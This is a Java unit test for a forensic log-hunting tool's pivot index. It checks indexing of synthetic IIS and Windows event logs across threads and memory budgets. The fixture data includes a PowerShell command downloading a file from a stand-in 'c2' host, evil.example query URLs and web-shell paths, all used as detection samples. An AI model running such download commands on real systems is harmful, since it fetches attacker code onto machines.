package dwell.pivot;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dwell.event.Event;
import dwell.event.LogSource;
import dwell.event.MapEvent;
import dwell.event.Provenance;
import dwell.format.evtx.EvtxLog;
import dwell.format.w3c.IisW3cLog;
import dwell.hunt.EvidenceRef;
import dwell.hunt.Finding;
import dwell.hunt.Level;
import dwell.hunt.RuleRef;
import dwell.pivot.store.IndexBudget;
import dwell.pivot.store.Postings;
import dwell.pivot.store.SpillSpace;
import dwell.pivot.store.TextDictionary;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.Comparator;
import java.util.HashMap;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The index against a plain model of what it must hold (events in path and reading order, each one's values,
 * value -> events), whatever the threads, the memory budget (all in memory, or nearly all spilled) and even
 * when every value has the same fingerprint; and the pivot's output alike in all those cases.
 */
class SealedIndexTest {
    private static final PivotFields FIELDS = PivotFields.builtin();

    @TempDir
    Path tmp;

    /** Web-log and event-log items read by one thread each, their events in order, as the engine gives them. */
    private static Map<String, List<Event>> evidence(Random r) {
        Map<String, List<Event>> items = new TreeMap<>();
        String[] agents = {"Mozilla/5.0+(Windows+NT+10.0)", "curl/7.1", "python-requests/2.22", "antSword/v2.1"};
        for (int day = 1; day <= 24; day++) {
            String item = "W3SVC1/u_ex2103" + String.format("%02d", day) + ".log";
            List<Event> events = new ArrayList<>();
            for (int line = 5; line < 5 + 200 + r.nextInt(400); line++) {
                Map<String, String> f = new LinkedHashMap<>();
                f.put("date", "2021-03-" + day);
                if (r.nextInt(25) != 0) {
                    int user = r.nextInt(60);
                    f.put("s-ip", r.nextInt(50) == 0 ? "10.0.0.6" : "10.0.0.5");
                    f.put("cs-method", r.nextInt(4) == 0 ? "POST" : "GET");
                    f.put("cs-uri-stem", r.nextInt(30) == 0 ? "/aspnet_client/x" + r.nextInt(3) + ".aspx" : "/owa/" + r.nextInt(9));
                    f.put("cs-uri-query", r.nextInt(40) == 0 ? "u=http://evil" + r.nextInt(3) + ".example/a" : "-");
                    f.put("cs-username", user < 5 ? "-" : "CONTOSO\\user" + user);
                    f.put("c-ip", r.nextInt(20) == 0 ? "198.51.100." + r.nextInt(20) + ", 10.1.0." + user
                            : r.nextInt(30) == 0 ? "[2001:DB8::" + user + "]:443" : "10.1.0." + user);
                    f.put("cs(User-Agent)", agents[r.nextInt(agents.length)]);
                    f.put("sc-status", r.nextInt(10) == 0 ? "500" : "200");
                }
                long sec = Instant.parse("2021-03-01T00:00:00Z").getEpochSecond() + day * 86400L + line * 7L;
                events.add(new MapEvent(Instant.ofEpochSecond(sec), IisW3cLog.ID, LogSource.webserver(), f, "raw",
                        Provenance.line(item, line), day % 5 == 0 ? null : "EXCH0" + day % 2));
            }
            items.put(item, events);
        }
        for (String log : List.of("Security.evtx", "Sysmon.evtx")) {
            List<Event> events = new ArrayList<>();
            for (int rec = 1; rec < 1500; rec += 1 + r.nextInt(3)) {
                Map<String, String> f = new LinkedHashMap<>();
                f.put("TargetUserName", "admin" + r.nextInt(8));
                f.put("IpAddress", "172.16.0." + r.nextInt(40));
                if (r.nextInt(5) == 0) f.put("CommandLine", "powershell iwr https://c2-" + r.nextInt(4) + ".example/p -o c:\\x");
                if (r.nextInt(7) == 0) f.put("Hashes", "SHA256=" + "ab".repeat(31) + String.format("%02x", r.nextInt(5)));
                // some records carry no time, and some times carry nanoseconds (FILETIME keeps 100 ns)
                Instant t = r.nextInt(30) == 0 ? null : Instant.parse("2021-03-02T10:00:00Z").plusNanos(rec * 1_000_000_100L);
                events.add(new MapEvent(t, EvtxLog.ID, LogSource.NONE, f, "raw", Provenance.record(log, rec), "DC01.contoso.local"));
            }
            items.put(log, events);
        }
        return items;
    }

    /** Feeds the items to an index, each item on one thread in its order, items spread over threads at random. */
    private static SealedIndex index(Map<String, List<Event>> items, int threads, EventIndex index) throws Exception {
        return index(items, threads, index, 0);
    }

    /** The same, sealed in {@code ranges} read side by side (0: as a scan seals). */
    private static SealedIndex index(Map<String, List<Event>> items, int threads, EventIndex index, int ranges) throws Exception {
        List<String> names = new ArrayList<>(items.keySet());
        Collections.shuffle(names, new Random(threads));
        ExecutorService pool = Executors.newFixedThreadPool(threads);
        List<Future<?>> done = new ArrayList<>();
        for (String item : names) done.add(pool.submit(() -> items.get(item).forEach(e -> index.onEvent(e, f -> { }))));
        pool.shutdown();
        assertTrue(pool.awaitTermination(1, TimeUnit.MINUTES));
        for (Future<?> f : done) f.get();
        return index.seal(ranges);
    }

    private EventIndex inMemory() {
        return new EventIndex(FIELDS, new IndexBudget(1L << 30, Long.MAX_VALUE, tmp));
    }

    /**
     * Memory for the dictionary's table and a few 1 KiB pages: nearly every page of events, values and postings
     * goes to disk.
     */
    private EventIndex spilling(TextDictionary.Fingerprint fp) {
        return new EventIndex(FIELDS, new SpillSpace(new IndexBudget(48 << 10, Long.MAX_VALUE, tmp), 10), fp, EventIndex.MAX_EVENTS);
    }

    /** The model: indexed events in order, with their (field, value) pairs. */
    private record Model(List<Event> events, List<List<Map.Entry<String, Value>>> values, Map<Value, List<Integer>> postings) {
        static Model of(Map<String, List<Event>> items) {
            List<Event> events = new ArrayList<>();
            List<List<Map.Entry<String, Value>>> values = new ArrayList<>();
            Map<Value, List<Integer>> postings = new TreeMap<>();
            for (List<Event> inItem : items.values()) {
                for (Event e : inItem) {
                    List<Map.Entry<String, Value>> vs = new ArrayList<>();
                    e.forEachField((name, raw) -> FIELDS.extract(name, raw, v -> vs.add(Map.entry(name, v))));
                    if (vs.isEmpty()) continue;
                    int n = events.size();
                    events.add(e);
                    values.add(vs);
                    for (Map.Entry<String, Value> fv : vs) {
                        List<Integer> p = postings.computeIfAbsent(fv.getValue(), k -> new ArrayList<>());
                        if (p.isEmpty() || p.get(p.size() - 1) != n) p.add(n);
                    }
                }
            }
            return new Model(events, values, postings);
        }

        int distinctAlongside(Value v, Kind kind, int cap) {
            Set<Value> seen = new HashSet<>();
            for (int e : postings.getOrDefault(v, List.of())) {
                for (Map.Entry<String, Value> fv : values.get(e)) {
                    if (fv.getValue().kind() == kind && seen.add(fv.getValue()) && seen.size() > cap) return seen.size();
                }
            }
            return seen.size();
        }
    }

    private static void assertHolds(Model m, SealedIndex x, long total) {
        assertNull(x.limit());
        assertEquals(m.events().size(), x.size());
        assertEquals(total, x.totalEvents());
        assertEquals(m.postings().size(), x.distinctValues());
        for (int e = 0; e < m.events().size(); e++) {
            Event ev = m.events().get(e);
            assertEquals(ev.provenance().item(), x.item(e), "item of " + e);
            assertEquals(ev.provenance().line(), x.line(e));
            assertEquals(ev.provenance().record(), x.record(e));
            assertEquals(ev.time(), x.time(e));
            assertEquals(ev.host(), x.host(e));
            assertEquals(ev.format(), x.format(e));
            assertEquals(m.values().get(e), x.values(e), "values of " + e);
            Map<String, String> fields = new LinkedHashMap<>();
            m.values().get(e).forEach(fv -> fields.putIfAbsent(fv.getKey(), fv.getValue().value()));
            assertEquals(fields, x.fields(e));
        }
        m.postings().forEach((v, events) -> {
            assertEquals(events.size(), x.count(v), v.toString());
            Postings p = x.postings(v);
            List<Integer> got = new ArrayList<>();
            for (int e = p.next(); e >= 0; e = p.next()) got.add(e);
            assertEquals(events, got, v.toString());
            for (Kind k : List.of(Kind.IP, Kind.ACCOUNT, Kind.USER_AGENT)) {
                for (int cap : new int[] {0, 3, 1000}) assertEquals(m.distinctAlongside(v, k, cap), x.distinctAlongside(v, k, cap));
            }
        });
        assertEquals(0, x.count(new Value(Kind.IP, "192.0.2.99")));
        assertEquals(-1, x.postings(new Value(Kind.IP, "192.0.2.99")).next());
        assertEquals(Set.of("10.0.0.5", "10.0.0.6"), x.serverAddresses());
    }

    @Test
    void holdsExactlyTheModelInMemorySpilledAndWithCollidingFingerprints() throws Exception {
        Map<String, List<Event>> items = evidence(new Random(1));
        long total = items.values().stream().mapToLong(List::size).sum();
        Model m = Model.of(items);
        try (SealedIndex x = index(items, 1, inMemory())) {
            assertHolds(m, x, total);
            assertEquals(0, x.diskBytes());
        }
        try (SealedIndex x = index(items, 3, spilling(TextDictionary.STRONG))) {
            assertHolds(m, x, total);
            assertTrue(x.diskBytes() > x.bytes() / 2, "spilled " + x.diskBytes() + ", in memory " + x.bytes());
        }
        try (SealedIndex x = index(items, 2, spilling((tag, text) -> text.length()))) {
            assertHolds(m, x, total);
        }
    }

    @Test
    void holdsTheModelWhenItsEventsAreSealedInRangesSideBySide() throws Exception {
        // ranges that split items and blocks of events, and more ranges than some values have events
        Map<String, List<Event>> items = evidence(new Random(5));
        long total = items.values().stream().mapToLong(List::size).sum();
        Model m = Model.of(items);
        for (int ranges : new int[] {2, 3, 17}) {
            try (SealedIndex x = index(items, 2, inMemory(), ranges)) {
                assertHolds(m, x, total);
            }
            try (SealedIndex x = index(items, 3, spilling(TextDictionary.STRONG), ranges)) {
                assertHolds(m, x, total);
                assertTrue(x.diskBytes() > 0);
            }
        }
    }

    @Test
    void pivotFindingsAndIncidentsAreTheSameWhateverTheThreadsBudgetAndFingerprints() throws Exception {
        Map<String, List<Event>> items = evidence(new Random(2));
        Event shell = items.get("W3SVC1/u_ex210320.log").stream()
                .filter(e -> e.get("cs-uri-stem") != null && e.get("cs-uri-stem").endsWith(".aspx")).findFirst().orElseThrow();
        Event logon = items.get("Security.evtx").get(100);
        List<Finding> findings = List.of(finding(shell, "Web shell request", "attack.t1505.003"), finding(logon, "Odd logon"));
        String inMemory;
        try (SealedIndex x = index(items, 1, inMemory())) {
            inMemory = describe(pivot(items, findings, x));
        }
        assertTrue(inMemory.contains("INC-1") && inMemory.contains("round=3"), inMemory);
        for (int threads : new int[] {2, 4}) {
            try (SealedIndex x = index(items, threads, spilling(TextDictionary.STRONG), threads)) {
                assertEquals(inMemory, describe(pivot(items, findings, x)));
            }
        }
        try (SealedIndex x = index(items, 3, spilling((tag, text) -> 7))) {
            assertEquals(inMemory, describe(pivot(items, findings, x)));
        }
    }

    /** The pivot over an index, with what else it needs learned from the same evidence. */
    private static PivotResult pivot(Map<String, List<Event>> items, List<Finding> findings, SealedIndex x) {
        Census census = new Census(FIELDS, Exclusions.builtin());
        Map<String, Map<String, String>> whole = new HashMap<>();
        for (List<Event> inItem : items.values()) {
            for (Event e : inItem) {
                census.onEvent(e, f -> { });
                whole.put(Pivot.key(e.provenance().item(), e.provenance().line(), e.provenance().record()), e.fields());
            }
        }
        Pivot.EventLookup lookup = keys -> {
            Map<String, Map<String, String>> out = new HashMap<>();
            for (String k : keys) if (whole.containsKey(k)) out.put(k, whole.get(k));
            return out;
        };
        Hosts hosts = Hosts.learn(census, new ArrayList<>(items.keySet()));
        return new Pivot(FIELDS, Exclusions.builtin(), PivotConfig.DEFAULT).run(hosts.resolve(findings), x, p -> "sha-" + p,
                census, hosts, lookup, Level.INFORMATIONAL);
    }

    @Test
    void tooManyEventsStopTheIndexWhichSaysWhyAndStillAnswers() throws Exception {
        Map<String, List<Event>> items = evidence(new Random(3));
        long total = items.values().stream().mapToLong(List::size).sum();
        EventIndex idx = new EventIndex(FIELDS, new SpillSpace(new IndexBudget(1L << 30, Long.MAX_VALUE, tmp)), TextDictionary.STRONG, 1000);
        try (SealedIndex x = index(items, 2, idx)) {
            assertTrue(x.limit().startsWith("more than 1000 events carry indicator values"), x.limit());
            assertTrue(x.size() <= 1000 && x.size() > 0, "indexed " + x.size());
            assertTrue(x.unindexedEvents() > 0);
            assertEquals(total, x.totalEvents());
            int found = 0;
            for (int e = 0; e < x.size(); e++) {
                for (Map.Entry<String, Value> fv : x.values(e)) {
                    Postings p = x.postings(fv.getValue());
                    boolean listed = false;
                    for (int h = p.next(); h >= 0; h = p.next()) listed |= h == e;
                    assertTrue(listed, fv + " lists event " + e);
                    found++;
                }
            }
            assertTrue(found > 0);
        }
    }

    @Test
    void closingDeletesTheSpillFolder() throws Exception {
        Map<String, List<Event>> items = evidence(new Random(4));
        EventIndex idx = spilling(TextDictionary.STRONG);
        SealedIndex x = index(items, 2, idx);
        assertTrue(x.diskBytes() > 0);
        try (var s = Files.list(tmp)) {
            assertEquals(1, s.filter(p -> p.getFileName().toString().startsWith("dwell-pivot-")).count());
        }
        x.close();
        try (var s = Files.list(tmp)) {
            assertFalse(s.anyMatch(p -> p.getFileName().toString().startsWith("dwell-pivot-")), "spill folder left behind");
        }
    }

    private static Finding finding(Event e, String title, String... tags) {
        return Finding.of(e.time(), "sigma", new RuleRef("r-" + title.hashCode(), title, Level.HIGH, List.of(tags)),
                e.host(), new EvidenceRef(e.provenance().item(), "sha", e.format().id(), e.provenance().line(), e.provenance().record()),
                e.fields(), List.of(), Map.of());
    }

    private static String describe(PivotResult r) {
        return r.pivotFindings().stream().sorted(Comparator.comparing(Finding::id))
                .map(f -> f.id() + " " + f.time() + " " + f.evidence() + " " + f.event() + " " + f.indicators() + " " + f.details())
                .collect(Collectors.joining("\n")) + "\n" + r.rounds().stream().map(x -> x.round() + ":" + x.findings())
                .collect(Collectors.joining(",")) + "\n" + r.incidents() + "\n" + r.unattributed();
    }
}
